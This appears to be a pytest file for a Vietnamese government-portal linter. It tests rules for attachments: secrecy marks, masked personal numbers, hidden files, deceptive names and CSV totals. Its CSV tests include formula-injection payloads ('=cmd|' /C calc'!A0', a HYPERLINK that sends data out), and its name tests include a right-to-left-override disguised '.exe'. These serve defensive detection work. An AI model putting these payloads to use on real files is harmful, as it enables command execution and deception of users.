"""Rules about attachments: what a file says and what it is, without repeating anybody's number or name."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from portalgen.diagnostics.formats import diagnostics_as_text
from portalgen.diagnostics.model import LocalizedText, Place, Severity
from portalgen.diagnostics.registry import CODES
from portalgen.documents.features import DocumentFeature
from portalgen.lint.attachment_text import AttachmentText
from portalgen.lint.model import AttachmentRule, AttachmentViolation
from portalgen.lint.rules.attachments import deceptive_name, file_name_title, hidden_file, name_with_marks, unnamed_file
from portalgen.lint.rules.attachments.csv_formula import is_formula
from portalgen.lint.rules.table import load_rules
from portalgen.lint.run import place_violations
from tests.makers.documents import make_document
from tests.makers.lint.contexts import load_lint_context
from tests.makers.lint.texts import page_text
from tests.makers.portal import SmallPortal, page
from tests.makers.quiet_portal import news


def marks(text: str = "Quy chế làm việc", format: str = "pdf", **more: Any) -> dict[str, list[AttachmentViolation]]:
    """What the rules of this family say of one attachment, by code."""
    state = more.pop("state", "read")
    attachment = AttachmentText(f"quy-che.{format}", format, 1000, state, text, **more)
    found = {
        rule.code: list(rule.check(attachment))
        for rule in load_rules("attachments")
        if isinstance(rule, AttachmentRule)
    }
    return {code: each for code, each in found.items() if each}


def test_an_ordinary_file_is_silent() -> None:
    assert marks(creator="Văn phòng Sở", pages=3) == {}
    assert marks("", "png", state="not_text") == {}


@pytest.mark.parametrize(
    ("given", "code"),
    [
        ({"format": "zip", "state": "not_text"}, "ATT213"),
        ({"format": "gz", "state": "not_text"}, "ATT213"),
        ({"text": "", "state": "empty", "pages": 3}, "ATT202"),
        ({"text": "", "state": "encrypted"}, "ATT203"),
        ({"text": "MẬT\nKế hoạch"}, "ATT204"),
        ({"text": "", "format": "docx", "state": "too_large"}, "ATT207"),
        ({"text": "", "state": "damaged"}, "ATT208"),
        ({"creator": "Nguyễn Văn Mẫu"}, "ATT211"),
        ({"is_truncated": True}, "ATT212"),
        ({"text": "", "state": "too_slow"}, "ATT212"),
        ({"features": (DocumentFeature("script", 1),)}, "ATT214"),
        ({"features": (DocumentFeature("launch", 1), DocumentFeature("program", 2, "file", ("a.exe",)))}, "ATT214"),
        ({"format": "docx", "features": (DocumentFeature("remote", 1), DocumentFeature("dde", 1))}, "ATT215"),
        (
            {"format": "xlsx", "features": (DocumentFeature("hidden_sheet", 1), DocumentFeature("hidden_row", 3))},
            "ATT216",
        ),
        ({"format": "docx", "features": (DocumentFeature("revision", 5),)}, "ATT217"),
        ({"features": (DocumentFeature("comment", 5, "page", ("2",)),)}, "ATT218"),
        ({"format": "csv", "text": "a,b\n1,=1+1\n"}, "ATT219"),
    ],
)
def test_each_nature_of_a_file_is_reported_by_its_own_code(given: dict[str, Any], code: str) -> None:
    assert list(marks(**given)) == [code]


def test_an_old_format_is_reported_and_that_nobody_read_it() -> None:
    for format in ("doc", "xls", "ppt"):
        assert list(marks("", format, state="not_text")) == ["ATT201", "ATT213"]


def test_a_file_that_is_not_what_its_name_says_is_the_builds_to_tell() -> None:
    assert marks("", state="mismatched") == {}


def test_what_blocks_is_only_what_is_certain() -> None:
    errors = {rule.code for rule in load_rules("attachments") if CODES[rule.code].severity is Severity.ERROR}
    assert errors == {"ATT203", "ATT204", "ATT207", "ATT214", "ATT215", "ATT220"}


def test_an_empty_file_that_is_no_pdf_is_no_scan() -> None:
    assert marks("", "docx", state="empty") == {}


@pytest.mark.parametrize(
    "added", ["Scanned with CamScanner", "Ký bởi: Sở Ngoại vụ\nNgày ký: 24-11-2026 08:00:00\n1", "Page 1\n2/2"]
)
def test_what_scanners_and_signatures_write_is_no_text_of_a_document(added: str) -> None:
    assert list(marks(added, pages=2)) == ["ATT202"]
    assert marks(f"{added}\nQuy chế làm việc", pages=2) == {}


def test_each_secrecy_mark_is_reported_once_a_file() -> None:
    found = marks("TỐI MẬT\nTrang 1\nTỐI MẬT\nMẬT\nBảo vệ bí mật nhà nước\nMẬT ONG")
    assert [dict(each.values) for each in found["ATT204"]] == [{"mark": "TỐI MẬT"}, {"mark": "MẬT"}]


def test_personal_numbers_are_counted_once_each_and_the_example_is_masked() -> None:
    text = (
        "Hộ 1, CCCD 001000000089, ĐT 0900000001\nHộ 2, CCCD 001000000089, ĐT +84 900 000 001, STK 0000000000000\n"
        "Hộ 3, mã số BHXH 0000000001"
    )
    (found,) = marks(text)["ATT205"]
    vi = "1 số căn cước, 1 số tài khoản, 1 số di động, 1 mã số bảo hiểm hoặc thuế"
    en = "1 identity, 1 account, 1 mobile, 1 insurance or tax"
    assert dict(found.values) == {"found": LocalizedText(vi, en), "count": "4", "example": "0010…89"}


@pytest.mark.parametrize("separator", ["\t", ",", ";"])
def test_numbers_below_their_label_are_counted(separator: str) -> None:
    rows = (("Họ tên", "Số CMND", "Số tài khoản"), ("Nguyễn Văn Mẫu", "000000089", "0000000000089"))
    (found,) = marks("\n".join(separator.join(row) for row in rows), "csv")["ATT205"]
    assert dict(found.values)["count"] == "2"


def test_a_mark_in_a_cell_of_a_head_is_reported_and_honey_is_not() -> None:
    assert list(marks("ỦY BAN NHÂN DÂN TỈNH\tMẬT", "docx")) == ["ATT204"]
    assert list(marks("Số: 12/BC   MẬT", "docx")) == ["ATT204"]
    assert list(marks("a,b\nTỐI MẬT,x", "csv")) == ["ATT204"]
    assert marks("SẢN PHẨM\tMẬT\nCà phê\t10", "docx") == {}


def test_the_message_repeats_no_number_in_either_language() -> None:
    marked = [("ATT205", each) for each in marks("CCCD 001000000089")["ATT205"]]
    (hit,) = place_violations(
        marked, "danh-sach.pdf", Place("content/so/a.vi.md", 5, 11, 13, "    file: danh-sach.pdf")
    )
    for language in ("vi", "en"):
        said = diagnostics_as_text((hit.diagnostic,), language)
        assert "0010…89" in said
        assert "001000000089" not in said


def test_a_file_with_public_numbers_is_silent() -> None:
    text = "Quyết định số 00/QĐ-UBND ngày 24/11/2026\nĐiện thoại: 0263 0000 000\nMST 0300000000\n1.000.000.000 đồng\n001\t000\t000\t000"
    assert marks(text) == {}


def test_a_mobile_number_that_the_agency_made_public_is_silent() -> None:
    text = "Trực: 0912 000 089"
    assert "ATT205" in marks(text)
    assert "ATT205" not in marks(text, public_telephones=("0912000089",))


def test_text_of_an_old_font_is_reported_with_its_name() -> None:
    (found,) = marks("Céng hoµ x· héi chñ nghÜa ViÖt Nam\nQuyÕt ®Þnh vÒ viÖc ban hµnh quy chÕ lµm viÖc cña c¬ quan")[
        "ATT206"
    ]
    assert dict(found.values) == {"font": "TCVN3 (ABC)"}


@pytest.mark.parametrize("creator", ["Nguyễn Văn Mẫu", "Tran Thi Mau", "Lê Thị Hồng Mẫu"])
def test_an_author_with_the_form_of_a_name_is_reported_without_it(creator: str) -> None:
    (found,) = marks(creator=creator)["ATT211"]
    assert found.values == ()


@pytest.mark.parametrize(
    "creator",
    ["", "Admin", "Văn phòng Sở", "Văn Phòng Ủy Ban", "Sở Ngoại vụ", "UBND phường Xuân Hương", "HP", "User 1", "Hồ Xuân", "PC LE VAN 01",
     "Lý Ban Phòng", "Mai Linh Company Limited Group Asia"],
)  # fmt: skip
def test_offices_and_machines_are_no_names(creator: str) -> None:
    assert marks(creator=creator) == {}


class TestTitles:
    PATH = "content/so/gioi-thieu/moi.vi.md"

    def find_places(self, tmp_path: Path, file: str, title: str) -> list[tuple[int, int, int]]:
        text = page_text(
            tmp_path, self.PATH, page("so-moi", title="Mới", attachments=f"\n  - file: {file}\n    title: {title}")
        )
        places = [each.diagnostic.place for each in file_name_title.check(text)]
        return [(place.line, place.column, place.length) for place in places]

    @pytest.mark.parametrize("title", ["quy-che.pdf", "QUYCHE.PDF", "quy-che", "ke_hoach.docx"])
    def test_a_title_that_is_a_file_name_is_reported_at_the_title(self, tmp_path: Path, title: str) -> None:
        assert self.find_places(tmp_path, "quy-che.pdf", title) == [(7, 12, len(title))]

    @pytest.mark.parametrize("title", ["Quy chế", "Quy chế làm việc (bản PDF)", "Biểu 01.a", "Mẫu đơn quy-che.pdf mới"])
    def test_a_title_in_words_is_silent(self, tmp_path: Path, title: str) -> None:
        assert self.find_places(tmp_path, "quy-che.pdf", title) == []

    def test_a_file_whose_name_is_a_word_may_be_its_title(self, tmp_path: Path) -> None:
        assert self.find_places(tmp_path, "Biểu.pdf", "Biểu") == []

    def test_a_document_in_the_text_is_reported_as_well(self, tmp_path: Path) -> None:
        body = '{{ document file="quy-che.pdf" title="quy-che.pdf" }}\n'
        text = page_text(tmp_path, self.PATH, page("so-moi", body, title="Mới"))
        assert [each.diagnostic.code for each in file_name_title.check(text)] == ["ATT209"]


class TestUnnamedFiles:
    FOLDER = "content/so/gioi-thieu/chuc-nang"

    def find_unnamed_files(self, portal: SmallPortal) -> list[tuple[str, object]]:
        found = list(unnamed_file.check(load_lint_context(portal)))
        return [(each.diagnostic.place.path, dict(each.diagnostic.values)["file"]) for each in found]

    @pytest.fixture
    def portal(self, tmp_path: Path) -> SmallPortal:
        return SmallPortal(tmp_path / "portal")

    def test_a_portal_whose_files_are_all_named_is_silent(self, portal: SmallPortal) -> None:
        assert self.find_unnamed_files(portal) == []

    def test_a_file_that_no_page_names_is_reported_at_the_page_beside_it(self, portal: SmallPortal) -> None:
        portal.write(f"{self.FOLDER}/ban-cu.pdf", make_document("pdf", "Bản cũ"))
        (found,) = unnamed_file.check(load_lint_context(portal))
        assert self.find_unnamed_files(portal) == [(f"{self.FOLDER}/index.vi.md", "ban-cu.pdf")]
        assert found.related == (f"{self.FOLDER}/ban-cu.pdf", f"{self.FOLDER}/index.en.md")

    def test_a_file_that_only_a_translation_or_a_link_names_is_silent(self, portal: SmallPortal) -> None:
        portal.write(f"{self.FOLDER}/phu luc.pdf", make_document("pdf", "Phụ lục"))
        portal.edit(f"{self.FOLDER}/index.en.md", "Advice.", "Advice. See [annex](phu%20luc.pdf).")
        assert self.find_unnamed_files(portal) == []

    def test_a_file_below_the_page_that_names_it_is_silent(self, portal: SmallPortal) -> None:
        portal.write(f"{self.FOLDER}/bieu/bieu-1.csv", "a,b\n")
        portal.edit(f"{self.FOLDER}/index.en.md", "Advice.", "Advice. See [table](bieu/bieu-1.csv).")
        assert self.find_unnamed_files(portal) == []

    def test_a_file_in_a_folder_without_pages_is_reported_at_itself(self, portal: SmallPortal) -> None:
        portal.write("content/so/luu-tru/cu.pdf", make_document("pdf", "Cũ"))
        assert self.find_unnamed_files(portal) == [("content/so/luu-tru/cu.pdf", "cu.pdf")]

    def test_a_file_that_is_named_by_an_escaped_name_is_silent(self, portal: SmallPortal) -> None:
        portal.write(f"{self.FOLDER}/phu_luc_1.pdf", make_document("pdf", "Phụ lục"))
        portal.edit(f"{self.FOLDER}/index.en.md", "Advice.", "Advice. See [annex](phu\\_luc\\_1.pdf).")
        assert self.find_unnamed_files(portal) == []

    def test_a_file_that_is_named_with_other_capitals_is_left_to_att101(self, portal: SmallPortal) -> None:
        portal.write(f"{self.FOLDER}/phu-luc.pdf", make_document("pdf", "Phụ lục"))
        portal.edit(f"{self.FOLDER}/index.en.md", "Advice.", "Advice. See [annex](Phu-luc.PDF).")
        assert self.find_unnamed_files(portal) == []

    def test_the_longer_name_of_another_file_does_not_name_this_one(self, portal: SmallPortal) -> None:
        portal.write(f"{self.FOLDER}/che.pdf", make_document("pdf", "Bản cũ"))
        assert [file for _, file in self.find_unnamed_files(portal)] == ["che.pdf"]

    def test_files_beside_a_page_that_could_not_be_read_are_left_alone(self, portal: SmallPortal) -> None:
        portal.write("content/so/gioi-thieu/hong/index.vi.md", "---\nid: [\n---\n")
        portal.write("content/so/gioi-thieu/hong/a.pdf", make_document("pdf", "A"))
        assert self.find_unnamed_files(portal) == []

    def test_hidden_files_are_left_alone(self, portal: SmallPortal) -> None:
        portal.write(f"{self.FOLDER}/.DS_Store", b"\0")
        assert self.find_unnamed_files(portal) == []


def test_what_a_file_carries_is_counted_placed_and_named_by_nobody() -> None:
    features = (
        DocumentFeature("hidden_sheet", 5, "sheet", ("Số gốc", "Tạm", "C`\u202e")),
        DocumentFeature("hidden_row", 1, "sheet", ("Bảng",)),
    )
    violations = marks(format="xlsx", features=features)["ATT216"]
    placed = place_violations([("ATT216", each) for each in violations], "a.xlsx", Place("content/so/a.vi.md"))
    text = diagnostics_as_text([each.diagnostic for each in placed], "vi")
    assert (
        "tệp `a.xlsx` có phần bị ẩn mà ai cũng hiện lại được: 5 trang tính ẩn (trang tính `Số gốc`, `Tạm`, "
        "`C<U+0060><U+202E>`, …); 1 hàng ẩn (trang tính `Bảng`)"
    ) in text
    (comments,) = marks(features=(DocumentFeature("comment", 2, "page", ("3",), has_names=True),))["ATT218"]
    (placed_comment,) = place_violations([("ATT218", comments)], "a.pdf", Place("content/so/a.vi.md"))
    shown = diagnostics_as_text([placed_comment.diagnostic], "vi")
    assert "tệp `a.pdf` còn 2 nhận xét (trang `3`, …), có ghi tên người" in shown


class TestCsv:
    """Cells that a program computes, and those of ordinary tables."""

    @pytest.mark.parametrize(
        "cell",
        [
            "=1+1",
            "= SUM(A1:A9)",
            '=HYPERLINK("https://vi-du.example/?"&A1)',
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "+SUM(A1)",
            "-2+3+cmd|' /C calc'!A0",
            "+A1*B2",
            "-$C$5",
            "\t=1+1",
            "\r=1+1",
            "+Sheet2!A1",
        ],
    )
    def test_formulas_are_reported(self, cell: str) -> None:
        assert is_formula(cell)

    @pytest.mark.parametrize(
        "cell",
        [
            *(
                "",
                "-",
                "--",
                "–",
                "=",
                "= ",
                "+",
                "@",
                "...",
                "-5",
                "+5",
                "-5,5",
                "-1.234.567,89",
                "-5%",
                "- 5",
                "-5 (giảm)",
            ),
            *("+84 263 3822 123", "+84912345678", "-5°C", "-(12)", "+/-", "-0.5E-3", "2026-11-24", "-2026", "+7 giờ"),
            *(
                "- Trong đó: nữ",
                "-Nam (18 tuổi)",
                "- Tổng số (người)",
                "+ Chi thường xuyên",
                "-Chú ý!",
                "@ubnd",
                "=> kết quả",
            ),
            *("== Bảng 1 ==", "a=b", "thu-chi", "vp@lamdong.gov.vn", "\tthụt đầu dòng", "-x", "+ A1", "-Đạt (1)"),
        ],
    )
    def test_numbers_dashes_telephones_and_words_are_none(self, cell: str) -> None:
        assert not is_formula(cell)

    def test_the_first_are_shown_with_line_and_column_and_all_are_counted(self) -> None:
        text = 'Năm;Số\n2024;"hai\ndòng"\n2025;=A1\n=B1;=C1\n=D1;-5\n'
        ((values,),) = ([each.values for each in marks(text, "csv")["ATT219"]],)
        found = dict(values)
        assert found["count"] == "4"
        assert isinstance(found["places"], LocalizedText)
        assert found["places"].vi == "dòng 4, cột 2: `=A1`; dòng 5, cột 1: `=B1`; dòng 5, cột 2: `=C1`; …"

    def test_other_texts_are_left_alone(self) -> None:
        assert marks("=1+1", "txt") == {}

    def test_a_table_beyond_all_measure_is_read_in_linear_time(self) -> None:
        for text in ("-" + "1" * 100_000, "+" + "A1" * 50_000, "-" + "a " * 50_000, "=" * 100_000, '"' + "-" * 500_000):
            marks(text, "csv")


class TestNames:
    """Names that deceive, or that hide the file."""

    @pytest.mark.parametrize(
        "name", [".quy-che.pdf", "tep/.an/a.pdf", "a\u202efdp.exe", "a\u2066.pdf", "a\u200b.pdf", "a\x07.pdf"]
    )
    def test_a_name_that_deceives_is_reported_as_it_is(self, name: str) -> None:
        (found,) = deceptive_name.check(AttachmentText(name, "pdf", 1, "read", "a"))
        shown = str(dict(found.values)["shown"])
        assert shown.isprintable()

    @pytest.mark.parametrize(
        "name", ["quy-che.pdf", "Quy chế (bản 2).pdf", "./a.pdf", "tep/a.tar.gz", "a..pdf", "ảnh–1.png"]
    )
    def test_ordinary_names_are_silent(self, name: str) -> None:
        assert not list(deceptive_name.check(AttachmentText(name, "pdf", 1, "read", "a")))


class TestHiddenFiles:
    """Pages and files that begin with a dot, which the build passes over."""

    def find(self, portal: SmallPortal) -> list[tuple[str, object]]:
        context = load_lint_context(portal)
        return [
            (each.diagnostic.place.path, dict(each.diagnostic.values)["file"]) for each in hidden_file.check(context)
        ]

    def test_a_page_a_file_and_a_folder_are_each_reported_once(self, portal: SmallPortal) -> None:
        portal.write("content/so/gioi-thieu/.lich-su.vi.md", page("so-lich-su"))
        portal.write("content/so/gioi-thieu/.bao-cao.pdf", make_document("pdf", "Báo cáo"))
        portal.write("content/so/.luu-tru/tin/a.vi.md", page("so-a"))
        portal.write("content/so/.luu-tru/tin/b.vi.md", page("so-b"))
        portal.write("content/.nhap/so/a.vi.md", page("so-c"))
        assert sorted(self.find(portal)) == [
            ("content/.nhap", ".nhap/"),
            ("content/so/.luu-tru", ".luu-tru/"),
            ("content/so/gioi-thieu/.bao-cao.pdf", ".bao-cao.pdf"),
            ("content/so/gioi-thieu/.lich-su.vi.md", ".lich-su.vi.md"),
        ]

    def test_what_programs_put_there_is_left_alone(self, portal: SmallPortal) -> None:
        for name in (
            ".DS_Store",
            "._a.vi.md",
            ".~lock.a.docx#",
            ".a.vi.md.swp",
            ".gitkeep",
            ".gitattributes",
            ".~a.pdf",
        ):
            portal.write(f"content/so/gioi-thieu/{name}", "a")
        portal.write("content/so/.git/a.md", "a")
        portal.write("content/so/.vscode/settings.ini", "a")
        (portal.root / "content/so/gioi-thieu/.#a.vi.md").symlink_to("nguoi-soan@may.123")
        assert self.find(portal) == []

    def test_a_hidden_file_that_a_page_names_is_told_there(self, portal: SmallPortal) -> None:
        portal.write("content/so/gioi-thieu/x/.a.pdf", make_document("pdf", "A"))
        portal.write("content/so/gioi-thieu/x/index.vi.md", page("so-x", "[A](.a.pdf)\n", title="X"))
        assert self.find(portal) == []


@pytest.mark.parametrize(
    ("title", "is_reported"),
    [
        ("Scan_20261123_0001", True),
        ("IMG 0012", True),
        ("2026112308370", True),
        ("document(1)", True),
        ("scan 2026-11-23 08.37", True),
        ("Scanned document 3 (copy)", True),
        ("Quyết định 73/QĐ-SNgV", False),
        ("Phụ lục 1", False),
        ("2026", False),
        ("Tệp số liệu 2026", False),
        ("Image of the hall in 2026", False),
    ],
)
def test_what_a_scanner_calls_its_file_is_no_title(tmp_path: Path, title: str, is_reported: bool) -> None:
    attachments = f"\n  - {{file: van-ban.pdf, title: '{title}'}}"
    text = page_text(tmp_path, "content/so/tin-tuc/moi/index.vi.md", news("so-moi", attachments=attachments))
    assert [each.diagnostic.code for each in file_name_title.check(text)] == ["ATT209"] * is_reported


@pytest.mark.parametrize(
    ("name", "proposal"),
    [
        ("Hướng dẫn (bản cuối).PDF", "huong-dan-ban-cuoi.pdf"),
        ("ke hoach.pdf", "ke-hoach.pdf"),
        ("phụ-lục/Biểu 1.xlsx", "bieu-1.xlsx"),
        ("(1).pdf", "1.pdf"),
        ("Ke_hoach-2026.v2.pdf", None),
        ("phụ-lục/bieu-1.xlsx", None),
    ],
)
def test_a_file_name_that_breaks_in_addresses_is_told_a_plain_one_once(
    tmp_path: Path, name: str, proposal: str | None
) -> None:
    body = f"Xem [văn bản](<{name}>).\n"
    text = page_text(
        tmp_path,
        "content/so/tin-tuc/moi/index.vi.md",
        news("so-moi", body, attachments=f"\n  - {{file: '{name}', title: Văn bản}}"),
    )
    found = [
        (dict(each.diagnostic.values)["proposal"], each.diagnostic.place.line) for each in name_with_marks.check(text)
    ]
    assert found == ([(proposal, 9)] if proposal else [])


@pytest.mark.parametrize(
    ("text", "total"),
    [
        ("Vườn hoa,Lượt khách\nTrung tâm,620\nHồ Bắc,410\nĐồi thông,275\nVườn ươm,175\nTổng số,1580\n", "1580"),
        ("Tháng,Số hồ sơ\nTháng 7,310\nTháng 8,275\nTháng 9,240\nTổng số,852\n", "852"),
        ("Thôn;Hộ;Tỷ lệ (%)\nMột;12;3,5\nHai;30;4,1\nTổng cộng;49;4,0\n", "49"),
        ("STT,Thôn,Suất\n1,Một,132\n2,Hai,118\n,Cộng,280\n", "280"),
        ("Khoản,Số tiền\nTổng,1550.5\nLương,1200.0\nKhác,300.5\n", "1550.5"),
        ('Area,Visitors\nLake,"1,200"\nHill,"2,300"\nTotal,"3,900"\n', "3,900"),
    ],
)
def test_a_total_of_a_csv_file_that_is_not_the_sum_is_reported(text: str, total: str) -> None:
    (found,) = marks(text, "csv")["ATT223"]
    assert dict(found.values)["total"] == total


@pytest.mark.parametrize(
    "text",
    [
        "Vườn hoa,Lượt khách\nTrung tâm,620\nHồ Bắc,410\nTổng số,1030\n",
        # Averages, rates and index numbers
        "Nhóm,Chỉ số\nA,103.1\nB,120.0\nTổng số,105.2\n",
        "Thôn,Mức tăng\nMột,3\nHai,9\nTổng,5\n",
        "Thôn,Tỷ lệ\nMột,60\nHai,80\nTổng,75\n",
        "Năm học,Điểm\nA,7\nB,8\nTổng,16\n",
        "Khối,Giá trị\nA,60\nB,45\nTổng số,60\n",
        # Rounding, groups, parts that the file leaves out
        "Ngành,Tỷ đồng\nA,12\nB,15\nC,9\nTổng số,37\n",
        "Khoản,Tiền\nThu,100\n- Phí,60\n- Lệ phí,40\nChi,80\nTổng,190\n",
        "Khu vực,Hộ\nKhu A,30\nThôn 1,10\nThôn 2,20\nKhu B,5\nThôn 3,5\nTổng cộng,35\n",
        "Xã,Hộ\nMột,30\nHai,20\nToàn tỉnh,900\n",
        "Thôn,Hộ\nMột,30\nTrong đó: nghèo,20\nTổng,30\n",
        "Thôn,Hộ\nMột,30\nHai,…\nTổng,50\n",
        "Thôn,Hộ\nTổng,30\n",
        "Tên,Số\nTổng công ty A,30\nTổng công ty B,40\nSở,5\n",
        "Thôn,Hộ\nMột,10\nTổng 1,10\nHai,5\nTổng 2,5\nTổng cộng,18\n",
        "Kỳ,Lũy kế\nQuý I,10\nQuý II,30\nTổng,45\n",
        "Tổng số\n12\n",
        "",
    ],
)
def test_a_total_of_a_csv_file_that_may_be_right_is_not_reported(text: str) -> None:
    assert "ATT223" not in marks(text, "csv")
